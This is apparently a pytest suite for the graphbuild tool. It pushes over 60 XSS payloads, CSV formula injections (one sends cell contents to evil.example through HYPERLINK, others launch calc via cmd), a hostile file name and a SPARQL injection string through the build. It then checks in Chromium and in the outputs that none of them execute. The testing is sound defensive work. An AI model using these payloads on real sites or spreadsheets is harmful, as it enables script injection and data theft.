"""Hostile article text, end to end: through the real ``graphbuild build``
(spaCy model, readers, RDF, CSV, HTML) and into headless Chromium.

More than 50 payloads (script tags, event-handler attributes, javascript:
URLs, broken markup, template syntax, formula prefixes, unicode tricks) are
put where the extractor carries them into the output: person names, the
sentences that become evidence, document ids, titles, source names, urls, a
file name and the page title. One build writes all of them; one page load
checks that none runs and none becomes an element, and that each still reads
as text where it was extracted. The same build's Turtle must parse and
round-trip through N-Triples and JSON-LD, and its events table must be safe
to open in a spreadsheet.

The browser part uses Debian's Chromium through playwright (``browser.py``):
it skips without one, and fails instead under CI.
"""

from __future__ import annotations

import csv
import html
import itertools
import json
import re
from pathlib import Path

import pytest
import rdflib
from rdflib.compare import isomorphic
from typer.testing import CliRunner

from browser import open_page, require_browser
from graphbuild import rdf
from graphbuild.cli import app
from graphbuild.viz import LABEL_LIMIT, clean_text

runner = CliRunner()

# Every payload that could run sets window.__pwned or opens a dialog; the
# page's init script (browser.py) records both.
PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=alert(1)>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:window.__pwned=1",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>news</marquee>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="window.__pwned=1',
    "' onmouseover='window.__pwned=1",
    "</script><script>window.__pwned=1</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="background:url(javascript:alert(1))">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${alert(1)}",
    "`-alert(1)-`",
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)",
    "<a href=javascript&colon;alert(1)>x",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u0000<script>alert(1)</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<x onclick=alert(1)>click",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\ud800<b>lone surrogate</b>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULAS = [p for p in PAYLOADS if p.lstrip("\t\r")[:1] in "=+-@"]

# Ordered country pairs: each payload's record gets its own ACCUSE edge, so
# that every payload's evidence is on some edge of the page.
COUNTRIES = ["France", "Germany", "Italy", "Spain", "Brazil", "Nigeria", "Kenya", "Japan", "India", "Chile", "Peru", "Canada"]
PAIRS = list(itertools.permutations(COUNTRIES, 2))

# A name-shaped payload for the person-name sentence: the model tags these
# (or most of them) as part of a PERSON span, so labels carry markup.
NAME_PAYLOADS = [
    "Ana<script>alert(1)</script>",
    'Mary "><img src=x onerror=alert(1)>',
    "Rick @SUM(A1)",
    "Olaf {{7*7}}",
    "Peter \u202eevil",
    "Ali &lt;b&gt;",
    "Anna \uff1cscript\uff1e",
    "Zoe =1+1",
]

PAGE_TITLE = "<script>window.__pwned=1</script> & <img src=x onerror=alert(1)>"

# Elements that could run or load something; none may come from the data.
DANGEROUS = (
    "img, iframe, frame, object, embed, svg:not(#gb-legend svg), svg script, math, base, form, input, button:not(#gb-fit), video, audio, "
    "source, details, marquee, link:not([rel='icon'][href='data:,']), meta[http-equiv='refresh'], template, "
    "noscript, a[href], style:not(head style)"
)

_DOM_STATE = """(dangerous) => ({
  scripts: Array.from(document.scripts).map(s => s.src || "inline"),
  dangerous: Array.from(document.querySelectorAll(dangerous)).map(e => e.outerHTML.slice(0, 120)),
  handlers: Array.from(document.querySelectorAll("*")).flatMap(el =>
      Array.from(el.attributes).filter(a => a.name.toLowerCase().startsWith("on")).map(a => el.tagName + " " + a.name)),
  tags: Array.from(new Set(Array.from(document.querySelectorAll("*")).map(e => e.tagName))).sort(),
  pwned: window.__pwned !== undefined || (window.parent && window.parent.__pwned !== undefined),
  dialogs: window.__dialogs || [],
})"""

# The tags of the page template itself (and what vis-network adds at run time).
TEMPLATE_TAGS = {
    "HTML", "HEAD", "META", "TITLE", "LINK", "STYLE", "SCRIPT", "BODY", "HEADER", "H1", "SPAN", "LABEL",
    "SELECT", "OPTION", "BUTTON", "DIV", "ASIDE", "H2", "UL", "LI", "svg", "line", "CANVAS",
}


def _shown(value: str) -> str:
    """What the page shows for a metadata string: whitespace collapsed (the
    reader), control and bidi characters blanked (the page)."""
    return clean_text(" ".join(value.split()))


def _clean_id(value: str) -> str:
    import unicodedata

    return "".join(ch for ch in value if unicodedata.category(ch) not in ("Cc", "Cf")).strip()


def _records() -> list[dict]:
    records = []
    for i, payload in enumerate(PAYLOADS):
        a, b = PAIRS[i]
        c = COUNTRIES[(i + 3) % len(COUNTRIES)]
        name = NAME_PAYLOADS[i % len(NAME_PAYLOADS)]
        text = (
            f"{a} accused {b} of {payload} on Monday.\n\n"
            f"Foreign Minister {name} Moreno{i} met {c}'s prime minister on Tuesday, {payload} said.\n\n"
            f"{payload}"
        )
        records.append(
            {
                "id": f"h{i:02d} {payload}",
                "date": "2024-05-06",
                "title": payload,
                "source": payload,
                "url": payload,
                "text": text,
            }
        )
    return records


@pytest.fixture(scope="module")
def built(tmp_path_factory, nlp):  # nlp: the model loads once, shared with the CLI
    folder = tmp_path_factory.mktemp("hostile-in")
    records = _records()
    # ensure_ascii: NULs and lone surrogates travel as JSON escapes, as in the wild
    (folder / "hostile.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    # A file name is a document id too.
    named = folder / '"><svg onload=alert(1)>.txt'
    named.write_text("Egypt accused Turkey of <b>meddling</b> on Monday.\n", encoding="utf-8")
    # CSV input with formula cells in every column that reaches the table.
    with open(folder / "formulas.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "date", "title", "source", "url", "text"])
        for j, formula in enumerate(FORMULAS):
            a, b = PAIRS[len(PAYLOADS) + j]
            w.writerow([f"{formula} f{j}", "2024-05-07", formula, formula, formula, f"{formula} {a} accused {b} of fraud."])
    out = tmp_path_factory.mktemp("hostile-out")
    result = runner.invoke(app, ["build", str(folder), "--out", str(out), "--title", PAGE_TITLE])
    assert result.exit_code == 0, result.output
    return {"out": out, "records": records, "output": result.output, "named": named}


@pytest.fixture(scope="module")
def kg(built):
    return rdf.from_rdf(rdf.load_graph(built["out"] / "graph.ttl"))


def _page_data(page: str) -> tuple[list[dict], list[dict]]:
    nodes = json.loads(re.search(r"var nodeData = (.*?);\n", page).group(1))
    edges = json.loads(re.search(r"var edgeData = (.*?);\n", page).group(1))
    return nodes, edges


# --- what the build extracted ---------------------------------------------------------------


def test_the_payloads_reach_the_graph(built, kg):
    """The suite tests something only if the payloads got through the extractor."""
    records = built["records"]
    assert len(PAYLOADS) >= 50
    assert len(kg.articles) == len(records) + 1 + len(FORMULAS)
    cited = {x.doc_id for ev in kg.events for x in ev.evidence}
    carried = [r for r in records if _clean_id(r["id"]) in cited]
    assert len(carried) >= 50, f"only {len(carried)} hostile records gave an event"
    sentences = [x.sentence for ev in kg.events for x in ev.evidence]
    in_sentences = [p for p in PAYLOADS if any(_shown(p)[:12] in _shown(s) for s in sentences)]
    assert len(in_sentences) >= 40, len(in_sentences)
    hostile_labels = [e.label for e in kg.entities.values() if re.search(r"[<>\"'{}@=&\uff1c\u202e]", e.label)]
    assert len(hostile_labels) >= 3, sorted(e.label for e in kg.entities.values())


# --- the file --------------------------------------------------------------------------------


def test_page_file_keeps_every_payload_inside_json(built):
    page = (built["out"] / "graph.html").read_text("utf-8")
    lowered = page.lower()
    for tag in ("<img", "<iframe", "<svg onload", "<svg/onload", "<object", "<embed", "<base", "<form", "<math", "<marquee"):
        assert tag not in lowered, tag
    assert page.count("</script>") == 2  # the library's and the page's own
    assert "\x00" not in page
    assert "<title>&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp; &lt;img src=x onerror=alert(1)&gt;</title>" in page
    nodes, edges = _page_data(page)
    for item in nodes + edges:
        assert "<" not in item["title"] and ">" not in item["title"], item["title"][:200]
        for text in (item["title"], item.get("label", "")):  # no bidi override, control or lone surrogate
            assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text), text


def test_labels_and_tooltips_carry_the_extracted_text(built, kg):
    page = (built["out"] / "graph.html").read_text("utf-8")
    nodes, edges = _page_data(page)
    by_id = {n["id"]: n for n in nodes}
    assert set(by_id) == set(kg.entities)
    for key, ent in kg.entities.items():
        node = by_id[key]
        shown = clean_text(" ".join(clean_text(ent.label).split()), LABEL_LIMIT) or "?"
        assert node["label"] == shown, (node["label"], ent.label)
        assert clean_text(ent.label)[:200] in html.unescape(node["title"])
    tips = "\n".join(html.unescape(e["title"]) for e in edges)
    for r in built["records"]:
        doc = _clean_id(r["id"])
        if any(x.doc_id == doc for ev in kg.events if ev.recipient for x in ev.evidence):
            assert f"[{clean_text(doc)} \u2014 {_shown(r['source'])}]" in tips, doc


# --- in the browser --------------------------------------------------------------------------


def test_no_payload_runs_or_becomes_an_element_in_chromium(built, kg, tmp_path):
    require_browser()
    page_path = built["out"] / "graph.html"
    _, edges = _page_data(page_path.read_text("utf-8"))
    with open_page(page_path) as page:
        report = page.report(screenshot=tmp_path / "hostile.png")
        assert report.canvas_nonblank, report
        assert report.console_errors == [] and report.external_requests == [], report
        assert not report.pwned and report.dialogs == [], report
        before = page.pw.evaluate(_DOM_STATE, DANGEROUS)
        assert before["scripts"] == ["inline", "inline"], before["scripts"]
        assert before["dangerous"] == [] and before["handlers"] == [], before
        assert set(before["tags"]) <= TEMPLATE_TAGS, set(before["tags"]) - TEMPLATE_TAGS
        assert page.pw.locator("h1").inner_text() == clean_text(PAGE_TITLE)

        # Every tooltip is one text-only element whose text is the escaped string, unescaped.
        titles = page.pw.evaluate(
            """() => [...window.graphbuild.nodes.get(), ...window.graphbuild.edges.get()].map(
                 i => [String(i.id), i.title.tagName, i.title.children.length, i.title.textContent])"""
        )
        assert len(titles) == len(kg.entities) + len(edges)
        assert all(tag == "DIV" and children == 0 for _, tag, children, _ in titles)
        shown = {i: text for i, _, _, text in titles}
        for e in edges:
            assert shown[e["id"]] == html.unescape(e["title"])
        # Payloads read as text: in the sentences and source names of the evidence.
        everything = "\n".join(shown.values())
        readable = [p for p in PAYLOADS if _shown(p) in everything]
        assert len(readable) >= 50, len(readable)
        options = page.pw.eval_on_selector_all("#gb-focus option", "els => els.map(e => e.textContent)")
        labels = {n["label"] for n in _page_data(page_path.read_text("utf-8"))[0]}
        assert set(options[1:]) == labels

        # Hover a few edges and nodes: vis-network builds its tooltip now.
        for edge in edges[:6]:
            point = page.pw.evaluate(
                "(id) => { const n = window.graphbuild.network;"
                " return n.canvasToDOM(n.body.edges[id].edgeType.getPoint(0.5)); }",
                edge["id"],
            )
            box = page.pw.locator("#mynetwork").bounding_box()
            page.pw.mouse.move(box["x"] + point["x"], box["y"] + point["y"])
            page.pw.wait_for_timeout(250)
            page.pw.mouse.move(1, 1)
        page.pw.select_option("#gb-focus", index=1)
        page.pw.wait_for_timeout(200)
        after = page.pw.evaluate(_DOM_STATE, DANGEROUS)
        assert after["dangerous"] == [] and after["handlers"] == [] and not after["pwned"], after
        assert after["dialogs"] == [] and page.console_errors == []
        assert set(after["tags"]) <= TEMPLATE_TAGS


# --- RDF -------------------------------------------------------------------------------------

_IRI_BAD = re.compile(r"[\x00-\x20<>\"{}|\\^`\x7f-\x9f]")


def test_turtle_parses_iris_are_clean_and_exports_round_trip(built, tmp_path):
    out = built["out"]
    g = rdflib.Graph().parse(out / "graph.ttl", format="turtle")
    assert len(g) > 500
    iris = {t for triple in g for t in triple if isinstance(t, rdflib.URIRef)}
    for iri in iris:
        assert not _IRI_BAD.search(str(iri)) and len(str(iri)) < 300, iri
        assert str(iri).startswith(("https://w3id.org/graphbuild/", "http://www.w3.org/", "http://purl.org/",
                                    "https://schema.org/", "http://www.w3.org/ns/prov#")), iri
    # Titles come back as the reader cleaned them: whitespace collapsed, surrogates as U+FFFD.
    titles = {str(o) for o in g.objects(None, rdflib.DCTERMS.title)}
    for p in PAYLOADS:
        assert " ".join(p.replace("\ud800", "\ufffd").split()) in titles, p
    for fmt, parser in (("nt", "nt"), ("jsonld", "json-ld"), ("ttl", "turtle")):
        target = tmp_path / f"graph.{fmt}"
        result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", fmt, "--out", str(target)])
        assert result.exit_code == 0, result.output
        assert isomorphic(rdflib.Graph().parse(target, format=parser), g), fmt


def test_hostile_text_cannot_leave_its_literal_in_a_query(built):
    """A payload shaped like SPARQL is a bound value, not query text."""
    out = built["out"]
    evil = 'x" } UNION { ?s ?p ?o } #'
    result = runner.invoke(app, ["query", str(out / "graph.ttl"), "actor-events", "--param", f"actor={evil}", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == []


# --- CSV -------------------------------------------------------------------------------------


def test_events_table_cells_cannot_run_as_formulas(built):
    with open(built["out"] / "events.csv", newline="", encoding="utf-8") as fh:
        raw_rows = list(csv.reader(fh))
    # A carriage return in article text must not end a row: every row has every column.
    assert {len(r) for r in raw_rows} == {len(raw_rows[0])}
    with open(built["out"] / "events.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(raw_rows) - 1
    cells = [v for row in rows for v in row.values()]
    bad = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert bad == []
    # The formula payloads are there, neutralised with a leading apostrophe.
    for formula in FORMULAS:
        assert any(v.startswith("'") and formula.lstrip("\t\r")[:6] in v for v in cells), formula
    for column in ("doc_id", "source", "url", "sentence"):
        assert any(row[column].startswith("'") for row in rows), column
